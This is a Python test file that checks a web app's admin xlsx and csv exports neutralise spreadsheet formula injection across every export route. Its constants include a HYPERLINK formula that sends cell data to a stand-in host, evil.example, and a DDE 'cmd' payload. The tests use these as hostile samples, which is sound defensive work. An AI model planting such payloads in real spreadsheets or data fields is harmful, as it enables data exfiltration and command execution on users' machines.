"""Issue 22, finding 2: text from outside written into a spreadsheet never becomes a formula (xlsx and csv)."""
import csv
from io import BytesIO, StringIO

import pytest
from openpyxl import load_workbook

from app.exports import FORMULA_STARTS, csv_bytes, formula_like, xlsx_bytes
from tests.factories import admin_headers, console_as, make_agent, make_application, make_product, orderable, place

HOSTILE = '=HYPERLINK("http://evil.example/?d="&B2,"点击查看")'
CMD = "=cmd|' /C calc'!A0"


def cells(content):
    """Every cell of every sheet of an .xlsx."""
    workbook = load_workbook(BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula(content):
    for cell in cells(content):
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if formula_like(cell.value):
            assert cell.quotePrefix, (cell.coordinate, cell.value)


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_xlsx_keeps_text_starting_like_a_formula_as_quoted_text(start):
    text = start + "1+1"
    (cell,) = [c for c in cells(xlsx_bytes(["备注"], [[text]])) if c.row == 2]
    # XML reads a carriage return back as a line feed
    assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", text.replace("\r", "\n"), True)


def test_xlsx_keeps_numbers_and_plain_negative_amounts_as_they_were():
    found = {c.coordinate: c for c in cells(xlsx_bytes(["金额", "件数", "文本"], [[-12.5, -3, "-12.00"]]))}
    assert (found["A2"].value, found["B2"].value, found["A2"].data_type) == (-12.5, -3, "n")
    assert (found["C2"].value, found["C2"].quotePrefix) == ("-12.00", False)


def test_xlsx_replaces_control_characters_instead_of_failing():
    (cell,) = [c for c in cells(xlsx_bytes(["收货人"], [["张\x07三"]])) if c.row == 2]
    assert cell.value == "张\ufffd三"


@pytest.mark.parametrize("text", [HOSTILE, CMD, "+1+1", "@SUM(A1)", "\t=1", "\r=1", "-1+1"])
def test_csv_writes_text_starting_like_a_formula_behind_a_quote(text):
    rows = list(csv.reader(StringIO(csv_bytes(["备注"], [[text]]).decode("utf-8-sig"))))
    assert rows[1] == ["'" + text]


def test_csv_keeps_numbers_and_plain_negative_amounts():
    rows = list(csv.reader(StringIO(csv_bytes(["a", "b"], [[-3, "-12.00"]]).decode("utf-8-sig"))))
    assert rows[1] == ["-3", "-12.00"]


@pytest.fixture
def hostile_world():
    """Outside text starting with `=` in what the exports show: product, agent, applicant, consignee, remark."""
    agent = make_agent(name=HOSTILE)
    product, _ = orderable(name=CMD)
    place(agent, (product, 1), consignee={"name": HOSTILE, "address": CMD}, remark=HOSTILE)
    make_application(name=HOSTILE)
    make_product(name=HOSTILE)


def export_paths(app):
    """Every GET route under /admin that is an export (console pages and JSON API), with its formats."""
    for rule in app.url_map.iter_rules():
        if rule.rule.startswith("/admin") and rule.rule.endswith("/export") and "GET" in rule.methods:
            yield rule.rule


def test_every_export_writes_outside_text_as_text(app, client, hostile_world):
    headers = admin_headers(client, console_as(client, "owner"))
    seen = set()
    for path in export_paths(app):
        for query in ("", "?format=csv"):
            response = client.get(path + query, headers=headers if path.startswith("/admin/api/") else {})
            if response.status_code != 200:
                continue
            if response.data[:2] == b"PK":
                assert_no_formula(response.data)
                texts = [cell.value for cell in cells(response.data)]
            else:
                texts = [field for row in csv.reader(StringIO(response.data.decode("utf-8-sig"))) for field in row]
                assert not [field for field in texts if formula_like(field)], path
            if any(isinstance(t, str) and t.lstrip("'") in (HOSTILE, CMD) for t in texts):
                seen.add(path + query)
    assert {"/admin/orders/export", "/admin/agents/export", "/admin/agents/applications/export",
            "/admin/settings/products/export", "/admin/api/orders/export", "/admin/stock/export"} <= seen
